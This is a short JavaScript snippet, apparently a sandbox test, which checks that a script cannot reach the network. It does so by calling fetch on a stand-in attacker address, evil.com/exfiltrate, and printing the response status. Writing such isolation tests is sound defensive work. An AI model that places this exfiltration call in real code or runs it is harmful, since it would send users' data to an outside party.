/**
 * Tries to carry data out of the machine. It must fail: a script has no network.
 */

const response = await fetch("https://evil.com/exfiltrate");
console.log(response.status);
